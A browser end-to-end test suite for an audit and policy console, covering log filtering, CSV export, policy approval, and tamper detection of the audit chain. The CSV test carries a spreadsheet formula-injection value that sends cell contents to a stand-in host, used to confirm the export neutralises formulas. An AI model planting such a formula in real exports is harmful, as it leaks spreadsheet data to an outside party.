import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { sql } from 'kysely';
import type { Browser, Page } from 'playwright-core';
import { asSuperuser } from '../support/audit.js';
import { listenUrl, startTestVault } from '../support/vault.js';
import { STORE } from '../support/database.js';
import { countIs, openView, rows, textMatching } from './helpers.js';
import { CAST, launchChromium, openConsole, screenshot, seedConsoleVault, signIn, type ConsolePage, type SeededVault } from './support.js';

interface EventView {
  seq: number;
  occurred_at: string;
  actor: string | null;
  action: string;
  decision: string;
  policy_revision: string | null;
  details: Record<string, unknown>;
}

/** RFC 4180: quoted fields, doubled quotes, CRLF rows; every cell of the console's CSV is quoted. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  if (cell || row.length) out.push([...row, cell]);
  return out;
}

/** An attribute of each element matching `selector`. */
async function attrs(page: Page, selector: string, name: string): Promise<(string | null)[]> {
  return page.$$eval(selector, (els: any[], n: string) => els.map((e) => e.getAttribute(n) as string | null), name);
}

/** The numbers in the `<title>`s of a chart's bars of one series, summed. */
async function barTotal(page: Page, chart: string, series: string | undefined, pattern: RegExp): Promise<number> {
  const titles = await page.$$eval(`svg[data-chart=${chart}] rect.bar${series ? `[data-series="${series}"]` : ''} title`, (ts: any[]) => ts.map((t) => String(t.textContent ?? '')));
  return titles.reduce((sum, t) => {
    const m = pattern.exec(t);
    assert.ok(m, `a bar title without its number: ${t}`);
    return sum + Number(m[1]);
  }, 0);
}

describe(`the auditor's and security admin's console views in a real browser (${STORE})`, () => {
  let vault: SeededVault;
  let browser: Browser;
  const pages: ConsolePage[] = [];

  async function tabAs(role: string, claims?: { sub?: string; teams?: string[] }): Promise<ConsolePage> {
    const c = await openConsole(browser, vault.url);
    pages.push(c);
    await signIn(c, vault.url, await vault.token(role, claims));
    return c;
  }

  /** Every event the filter matches, all pages, straight from the API. */
  async function allEvents(query: Record<string, string>): Promise<EventView[]> {
    const events: EventView[] = [];
    let cursor: string | null = null;
    do {
      const qs = new URLSearchParams({ ...query, limit: '1000', ...(cursor ? { cursor } : {}) });
      const page = await vault.api('auditor', 'GET', `/v1/audit/events?${qs}`);
      assert.equal(page.status, 200, page.text);
      events.push(...page.body.events);
      cursor = page.body.next_cursor;
    } while (cursor);
    return events;
  }

  before(async () => {
    browser = await launchChromium();
    vault = await seedConsoleVault();
  });
  after(async () => {
    for (const c of pages) await c.close().catch(() => {});
    await browser?.close();
    await vault?.t.close();
  });

  it('audit: filtering by decision shows exactly the denials the API returns, and the filters survive in the link', async () => {
    const c = await tabAs('auditor', { sub: 'audrey' });
    await openView(c.page, vault.url, 'audit');
    await c.page.locator('table#audit-events').waitFor();
    await c.page.locator('#audit-decision').selectOption('deny');
    await c.page.locator('#audit-action').fill('policy.decision');
    await c.page.locator('button#audit-search').click();
    await textMatching(c.page.locator('[data-testid=audit-count]'), /Page 1: \d+ events?/);

    const direct = await vault.api('auditor', 'GET', '/v1/audit/events?decision=deny&action=policy.decision&limit=50');
    const expected = (direct.body.events as EventView[]).map((e) => String(e.seq));
    assert.equal(expected.length, 2, 'the seeded denials: a unit outside the grant, and the scope breach');
    await countIs(c.page.locator('table#audit-events tbody tr'), expected.length);
    assert.deepEqual(await attrs(c.page, 'table#audit-events tbody tr', 'data-seq'), expected);
    const shown = await rows(c.page, 'table#audit-events');
    assert.ok(shown.every((r) => r[2] === 'policy.decision' && r[3] === 'deny'), JSON.stringify(shown));
    assert.ok(shown.some((r) => /^scope_breach records_reach_too_wide; records of 13 employees/.test(r[7] ?? '')), `the breach's alarm and reason are shown: ${JSON.stringify(shown)}`);

    // The link carries the filters: opened afresh, it shows the same rows.
    const link = c.page.url();
    assert.match(link, /#\/audit\?.*decision=deny/);
    assert.match(link, /action=policy.decision/);
    await c.page.goto('about:blank');
    await c.page.goto(link);
    await countIs(c.page.locator('table#audit-events tbody tr'), expected.length);
    assert.equal(await c.page.locator('#audit-decision').inputValue(), 'deny');

    // Every denial of any action, page by page: the first page and the next follow the API's cursor.
    await c.page.locator('#audit-action').fill('');
    await c.page.locator('#audit-limit').fill('2');
    await c.page.locator('button#audit-search').click();
    const denials = await allEvents({ decision: 'deny' });
    assert.ok(denials.length >= 3, `denied requests and the refused activation: ${denials.length}`);
    await countIs(c.page.locator('table#audit-events tbody tr'), 2);
    assert.deepEqual(await attrs(c.page, 'table#audit-events tbody tr', 'data-seq'), denials.slice(0, 2).map((e) => String(e.seq)));
    await c.page.locator('button#audit-next').click();
    await textMatching(c.page.locator('[data-testid=audit-count]'), /Page 2/);
    assert.deepEqual(await attrs(c.page, 'table#audit-events tbody tr', 'data-seq'), denials.slice(2, 4).map((e) => String(e.seq)));

    // By employee: a read of eng-0's access report is logged under a keyed reference to eng-0.
    assert.equal((await vault.api('auditor', 'GET', `/v1/employees/${CAST.reported}/access-report`)).status, 200);
    await c.page.locator('#audit-limit').fill('50');
    await c.page.locator('#audit-decision').selectOption('');
    await c.page.locator('#audit-employee-id').fill(CAST.reported);
    await c.page.locator('button#audit-search').click();
    const byEmployee = await vault.api('auditor', 'GET', `/v1/audit/events?employee_id=${CAST.reported}&limit=50`);
    // The search itself is audited with the employee, after the page read its result.
    const before = (byEmployee.body.events as EventView[]).filter((e) => e.action !== 'audit.query');
    await textMatching(c.page.locator('[data-testid=audit-count]'), /Page 1/);
    const seen = (await rows(c.page, 'table#audit-events')).filter((r) => r[2] !== 'audit.query');
    assert.equal(seen.length, before.length);
    assert.ok(seen.some((r) => r[2] === 'employee.access_report'), `the report read is found by employee: ${JSON.stringify(seen)}`);
    const ref = (before[0] as EventView & { employee_ref: string }).employee_ref;
    assert.ok(seen.every((r) => ref.startsWith(r[4]!)), 'every row names the same keyed reference, never the id');

    await c.page.locator('#audit-employee-id').fill('');
    await c.page.locator('#audit-decision').selectOption('deny');
    await c.page.locator('button#audit-search').click();
    await c.page.locator('table#audit-events tbody tr').first().waitFor();
    await screenshot(c.page, 'audit');
  });

  it("report: an employee's access report lists the datasets that reached them", async () => {
    const c = await tabAs('auditor', { sub: 'audrey' });
    await openView(c.page, vault.url, 'report');
    await c.page.locator('#report-employee').fill(CAST.reported);
    await c.page.locator('button#report-run').click();
    await c.page.locator('table#report-datasets tbody tr').first().waitFor();
    const reportResponse = await vault.api('auditor', 'GET', `/v1/employees/${CAST.reported}/access-report`);
    assert.equal(reportResponse.status, 200, reportResponse.text);
    const report = reportResponse.body;
    const shown = await rows(c.page, 'table#report-datasets');
    assert.deepEqual(shown.map((r) => r[1]), report.datasets.map((d: { dataset_id: string }) => d.dataset_id));
    assert.ok(shown.some((r) => r[1] === vault.datasets.autocomplete.id), 'the autocomplete dataset reached eng-0');
    await textMatching(c.page.locator('[data-testid=report-summary]'), new RegExp(`${report.summary.datasets}\\s*datasets? reached`));
    await screenshot(c.page, 'report');
  });

  it('policy: the staged revision shows who gains what, and the refused one its violations', async () => {
    const c = await tabAs('security-admin', { sub: 'sam' });
    await openView(c.page, vault.url, 'policy');
    const row = c.page.locator(`table#revisions tr[data-revision="${CAST.stagedRevision}"]`);
    await row.waitFor();
    await textMatching(c.page.locator(`table#revisions tr[data-revision="${CAST.activeRevision}"]`), /active.*in force/);
    await textMatching(c.page.locator(`table#revisions tr[data-revision="${CAST.refusedRevision}"]`), /activation refused/);
    await textMatching(row, /staged/);

    await row.locator('button[data-action=diff]').click();
    const gained = c.page.locator('table#access-diff tr[data-team=team-autocomplete]');
    await gained.waitFor();
    const diffResponse = await vault.api('security-admin', 'GET', `/v1/policy/bundles/${CAST.stagedRevision}/diff`);
    assert.equal(diffResponse.status, 200, diffResponse.text);
    const diff = diffResponse.body;
    assert.equal(diff.against, CAST.activeRevision);
    const team = diff.teams.find((t: { team: string }) => t.team === 'team-autocomplete');
    assert.deepEqual(team.gained, ['research']);
    const cells = (await rows(c.page, 'table#access-diff')).find((r) => r[0] === 'team-autocomplete')!;
    assert.equal(cells[3], 'research', `gains column: ${JSON.stringify(cells)}`);
    assert.deepEqual((await rows(c.page, 'table#access-diff')).map((r) => r[0]), diff.teams.map((t: { team: string }) => t.team));
    await textMatching(c.page.locator('[data-testid=diff-growth]'), /team-autocomplete/);
    assert.match(c.page.url(), new RegExp(`#/policy\\?revision=${CAST.stagedRevision}`));
    await screenshot(c.page, 'policy');

    await c.page.locator(`table#revisions tr[data-revision="${CAST.refusedRevision}"] button[data-action=diff]`).click();
    await textMatching(c.page.locator('[data-testid=diff-violations]'), /.+/);

    // The auditor reads the same page without the buttons.
    const auditor = await tabAs('auditor', { sub: 'audrey' });
    await openView(auditor.page, vault.url, 'policy');
    await auditor.page.locator(`table#revisions tr[data-revision="${CAST.stagedRevision}"]`).waitFor();
    await countIs(auditor.page.locator('button[data-action=approve], button[data-action=activate]'), 0);
  });

  it('alarms: the scope breach and the refused activation are listed, as the API lists them', async () => {
    const c = await tabAs('security-admin', { sub: 'sam' });
    await openView(c.page, vault.url, 'alarms');
    await c.page.locator('table#alarms tbody tr').first().waitFor();
    const api = (await vault.api('security-admin', 'GET', '/v1/audit/alarms?limit=50')).body;
    assert.deepEqual(await attrs(c.page, 'table#alarms tbody tr', 'data-seq'), api.alarms.map((a: { seq: number }) => String(a.seq)));
    const refused = c.page.locator(`table#alarms tr[data-kind=activation_refused][data-revision="${CAST.refusedRevision}"]`);
    await countIs(refused, 1);
    await textMatching(refused, /policy\.activate/);
    const breach = c.page.locator('table#alarms tr[data-kind=scope_breach]');
    await countIs(breach, 1);
    await textMatching(breach, /job-ux.*team-ux-agents/);
    await screenshot(c.page, 'alarms');
  });

  it('audit: the CSV download holds exactly the rows the filter matches, quoted and safe from spreadsheet formulas', async () => {
    // An actor named like a formula: its refusal is audited under that name.
    const formula = '=HYPERLINK("http://x.example/?"&A1)';
    const refused = await vault.api('employee', 'GET', `/v1/employees/${CAST.reported}/access-report`, undefined, { sub: formula });
    assert.equal(refused.status, 403, refused.text);

    const c = await tabAs('auditor', { sub: 'audrey' });
    // Opened from a shared link: the filters come from the URL.
    await c.page.goto(`${vault.url}/console#/audit?decision=deny`);
    await c.page.locator('table#audit-events tbody tr').first().waitFor();
    const expected = await allEvents({ decision: 'deny' });
    const download = c.page.waitForEvent('download');
    await c.page.locator('button#audit-csv').click();
    const file = await (await download).path();
    const text = await fs.readFile(file, 'utf8');
    const [header, ...body] = parseCsv(text);
    assert.deepEqual(header!.slice(0, 8), ['seq', 'occurred_at', 'actor', 'roles', 'teams', 'purpose', 'action', 'decision']);
    assert.deepEqual(body.map((r) => r[0]), expected.map((e) => String(e.seq)));
    assert.ok(body.every((r) => r[7] === 'deny'));
    for (const [i, e] of expected.entries()) {
      assert.equal(body[i]![1], e.occurred_at);
      assert.equal(body[i]![6], e.action);
      assert.deepEqual(JSON.parse(body[i]![16]!), e.details);
    }
    const formulaRow = body.find((r) => r[2]?.includes('HYPERLINK'));
    assert.ok(formulaRow, 'the refusal of the formula-named actor is in the CSV');
    assert.equal(formulaRow[2], `'${formula}`, 'a formula cell starts with a quote');
    assert.ok(text.includes(`"'=HYPERLINK(""http://x.example/?""&A1)"`), 'quotes inside a cell are doubled');
    assert.ok(body.flat().every((cell) => !/^[=+\-@]/.test(cell)), 'no cell starts as a formula');
    await textMatching(c.page.locator('[data-testid=csv-status]'), new RegExp(`${expected.length} events saved`));
  });

  it('overview: the bars of each chart add up to the vault\'s statistics for the same window', async () => {
    const c = await tabAs('auditor', { sub: 'audrey' });
    await openView(c.page, vault.url, 'overview');
    for (const window of ['7d', '24h']) {
      if (window !== '7d') await c.page.locator('#overview-window').selectOption(window);
      const out = c.page.locator(`.overview-out[data-window="${window}"]`);
      await out.waitFor();
      const from = (await out.getAttribute('data-from'))!;
      const to = (await out.getAttribute('data-to'))!;
      assert.equal(Date.parse(to) - Date.parse(from), window === '7d' ? 7 * 86_400_000 : 86_400_000);
      const stats = (await vault.api('auditor', 'GET', `/v1/audit/stats?${new URLSearchParams({ from, to })}`)).body;
      const sum = (ns: number[]) => ns.reduce((a, b) => a + b, 0);
      const allow = sum(stats.decisions_per_hour.map((h: { allow: number }) => h.allow));
      const deny = sum(stats.decisions_per_hour.map((h: { deny: number }) => h.deny));
      const records = sum(stats.records_per_team_day.map((r: { records: number }) => r.records));
      const alarms = sum(stats.alarms_per_hour.map((a: { alarms: number }) => a.alarms));
      assert.ok(allow > 0 && deny > 0 && alarms > 0, JSON.stringify(stats));
      assert.equal(records, vault.datasets.autocomplete.records + vault.datasets.ux.records, 'the two seeded streams');
      assert.equal(await barTotal(c.page, 'decisions-per-hour', 'allow', /: (\d+) allowed$/), allow);
      assert.equal(await barTotal(c.page, 'decisions-per-hour', 'deny', /: (\d+) denied$/), deny);
      assert.equal(await barTotal(c.page, 'records-per-team-day', undefined, /: (\d+) records$/), records);
      assert.equal(await barTotal(c.page, 'alarms', undefined, /: (\d+) alarms$/), alarms);
      assert.equal(await barTotal(c.page, 'records-per-team-day', 'team-autocomplete', /: (\d+) records$/), vault.datasets.autocomplete.records);
      const legend = (await c.page.locator('svg[data-legend=records-per-team-day]').textContent()) ?? '';
      assert.match(legend, /team-autocomplete/);
      assert.match(legend, /team-ux-agents/);
      assert.match((await c.page.locator('svg[data-legend=decisions-per-hour]').textContent()) ?? '', /allow.*deny/);
      await countIs(c.page.locator('svg[data-chart] [data-testid=no-data]'), 0);
    }
    await screenshot(c.page, 'overview');
  });

  it('overview: a vault with nothing streamed and no alarm says "no data" in those charts instead of a blank box', async () => {
    const empty = await startTestVault();
    try {
      const url = await listenUrl(empty);
      const c = await openConsole(browser, url);
      pages.push(c);
      await signIn(c, url, await empty.token('auditor', { sub: 'audrey' }));
      await openView(c.page, url, 'overview');
      await c.page.locator('.overview-out[data-window="7d"]').waitFor();
      for (const chart of ['records-per-team-day', 'alarms']) {
        await textMatching(c.page.locator(`svg[data-chart=${chart}] [data-testid=no-data]`), /no data/);
        await countIs(c.page.locator(`svg[data-chart=${chart}] rect.bar`), 0);
      }
      await textMatching(c.page.locator('[data-stat=records]'), /^0/);
      await textMatching(c.page.locator('[data-stat=alarms]'), /^0/);
    } finally {
      await empty.close();
    }
  });

  it('policy: the diff route answers auditors and security admins only, and names what it cannot diff', async () => {
    const path = `/v1/policy/bundles/${CAST.stagedRevision}/diff`;
    assert.equal((await vault.api('auditor', 'GET', path)).status, 200);
    assert.equal((await vault.api('employee', 'GET', path, undefined, { sub: CAST.self })).status, 403);
    assert.equal((await vault.api('training-job', 'GET', path, undefined, { sub: 'job-ux', teams: ['team-ux-agents'], purpose: 'ui-navigation-agent' })).status, 403);
    const unknown = await vault.api('security-admin', 'GET', '/v1/policy/bundles/never-staged/diff');
    assert.equal(unknown.status, 404, unknown.text);
    const against = await vault.api('security-admin', 'GET', `${path}?against=${CAST.refusedRevision}`);
    assert.equal(against.status, 200, against.text);
    assert.equal(against.body.against, CAST.refusedRevision);
    // Against the too-wide revision, team-ux-agents loses what that one would have given it.
    assert.deepEqual(against.body.teams.find((t: { team: string }) => t.team === 'team-ux-agents').lost, ['finance', 'legal']);
  });

  it('policy: a revision that grows access is activated only by a second admin, and the page shows each refusal', async () => {
    const sam = await tabAs('security-admin', { sub: 'sam' });
    await openView(sam.page, vault.url, 'policy');
    const activate = sam.page.locator(`button[data-action=activate][data-revision="${CAST.stagedRevision}"]`);
    const approve = sam.page.locator(`button[data-action=approve][data-revision="${CAST.stagedRevision}"]`);

    // The invariants refuse the too-wide revision, whoever asks.
    await sam.page.locator(`button[data-action=activate][data-revision="${CAST.refusedRevision}"]`).click();
    await textMatching(sam.page.locator('[data-testid=error]'), /policy_rejected.*pre-activation checks/);
    assert.ok((await sam.page.locator('[data-testid=error] ul.violations li').count()) >= 1, 'the violations are listed');

    await activate.click();
    await textMatching(sam.page.locator('[data-testid=error]'), /policy_rejected.*second security admin/);
    await approve.click();
    await textMatching(sam.page.locator('[data-testid=policy-notice]'), new RegExp(`${CAST.stagedRevision} approved by sam`));
    await textMatching(sam.page.locator(`table#revisions tr[data-revision="${CAST.stagedRevision}"]`), /approved.*sam/);
    // The approver cannot activate what they approved.
    await activate.click();
    await textMatching(sam.page.locator('[data-testid=error]'), /policy_rejected.*second security admin/);
    assert.equal((await vault.api('auditor', 'GET', '/v1/policy/bundles')).body.active, CAST.activeRevision);

    const sue = await tabAs('security-admin', { sub: 'sue' });
    await openView(sue.page, vault.url, 'policy');
    await sue.page.locator(`button[data-action=activate][data-revision="${CAST.stagedRevision}"]`).click();
    await textMatching(sue.page.locator('[data-testid=policy-notice]'), new RegExp(`${CAST.stagedRevision} is in force .*approved by sam`));
    await textMatching(sue.page.locator(`table#revisions tr[data-revision="${CAST.stagedRevision}"]`), /active.*sam \(used\).*sue.*in force/);
    assert.equal((await vault.api('auditor', 'GET', '/v1/policy/bundles')).body.active, CAST.stagedRevision);
  });

  it('verify: an intact chain shows OK with its signed checkpoints and witness; an edited row shows BROKEN at its seq', async () => {
    const c = await tabAs('auditor', { sub: 'audrey' });
    await openView(c.page, vault.url, 'verify');
    await c.page.locator('button#checkpoint-sign').click();
    await c.page.locator('table#checkpoints tbody tr').first().waitFor();
    const listed = (await vault.api('auditor', 'GET', '/v1/audit/checkpoints')).body.checkpoints as { seq: number }[];
    assert.deepEqual(await attrs(c.page, 'table#checkpoints tbody tr', 'data-seq'), listed.map((cp) => String(cp.seq)));
    assert.deepEqual(new Set(await attrs(c.page, 'table#checkpoints tbody tr', 'data-signature')), new Set(['valid']), 'each signature checks out in the browser');

    const status = c.page.locator('[data-testid=chain-status]');
    await c.page.locator('button#verify-run').click();
    const ok = await textMatching(status, /OK.* (\d+) events checked/);
    assert.equal(await status.getAttribute('data-state'), 'ok');
    assert.equal(await status.evaluate((e: any) => Boolean(e.classList.contains('good'))), true);
    assert.ok(Number(/(\d+) events checked/.exec(ok)![1]) >= listed[0]!.seq);
    await textMatching(c.page.locator('[data-testid=witness-status]'), /agrees/);
    assert.equal(await c.page.locator('[data-testid=witness-status]').getAttribute('data-state'), 'agrees');
    await screenshot(c.page, 'verify');

    // A superuser edits the actor of the scope breach's event.
    const breach = (await allEvents({ action: 'policy.decision', decision: 'deny' })).find((e) => e.details.alarm === 'scope_breach')!;
    assert.ok(breach, 'the seeded scope breach is in the log');
    const db = vault.t.database.db;
    await asSuperuser(db, async (su) => void (await sql`update audit_events set actor = 'someone-else' where seq = ${breach.seq}`.execute(su)));
    try {
      await c.page.locator('button#verify-run').click();
      await textMatching(status, new RegExp(`BROKEN at seq ${breach.seq}\\b`));
      assert.equal(await status.getAttribute('data-state'), 'broken');
      assert.equal(await status.getAttribute('data-broken-at'), String(breach.seq));
      assert.equal(await status.evaluate((e: any) => Boolean(e.classList.contains('bad'))), true);
      const direct = (await vault.api('auditor', 'GET', '/v1/audit/verify')).body;
      assert.deepEqual([direct.ok, direct.broken_at], [false, breach.seq]);
      await screenshot(c.page, 'verify-broken');
    } finally {
      await asSuperuser(db, async (su) => void (await sql`update audit_events set actor = ${breach.actor} where seq = ${breach.seq}`.execute(su)));
    }
    await c.page.locator('button#verify-run').click();
    await textMatching(status, /OK/);
  });

  it("roles: an employee's token opening the auditor's and security admin's views is refused in the page", async () => {
    const c = await tabAs('employee', { sub: CAST.self });
    const nav = await attrs(c.page, '#views a', 'data-view');
    for (const view of ['overview', 'audit', 'verify', 'report', 'policy', 'alarms']) {
      assert.ok(!nav.includes(view), `${view} is not offered to an employee: ${nav.join(',')}`);
      const before = c.page.waitForRequest((r) => r.url().includes('/v1/audit') || r.url().includes('/v1/policy'), { timeout: 500 }).then(() => true, () => false);
      await openView(c.page, vault.url, view);
      await c.page.locator('[data-testid=forbidden]').waitFor();
      assert.equal(await before, false, `opening ${view} sent no request for its data`);
    }
    // The privacy officer may read an access report, not the log.
    const officer = await tabAs('privacy-officer', { sub: 'priya' });
    await openView(officer.page, vault.url, 'report');
    await officer.page.locator('#report-employee').waitFor();
    await openView(officer.page, vault.url, 'audit');
    await officer.page.locator('[data-testid=forbidden]').waitFor();
  });

  it('no page raised a CSP violation, an uncaught error, or a request to another origin', async () => {
    for (const c of pages) {
      assert.deepEqual(c.violations, []);
      assert.deepEqual(c.consoleErrors.filter((e) => !/Failed to load resource: the server responded with a status of 4\d\d/.test(e)), []);
      assert.deepEqual(c.foreignRequests, []);
    }
  });
});
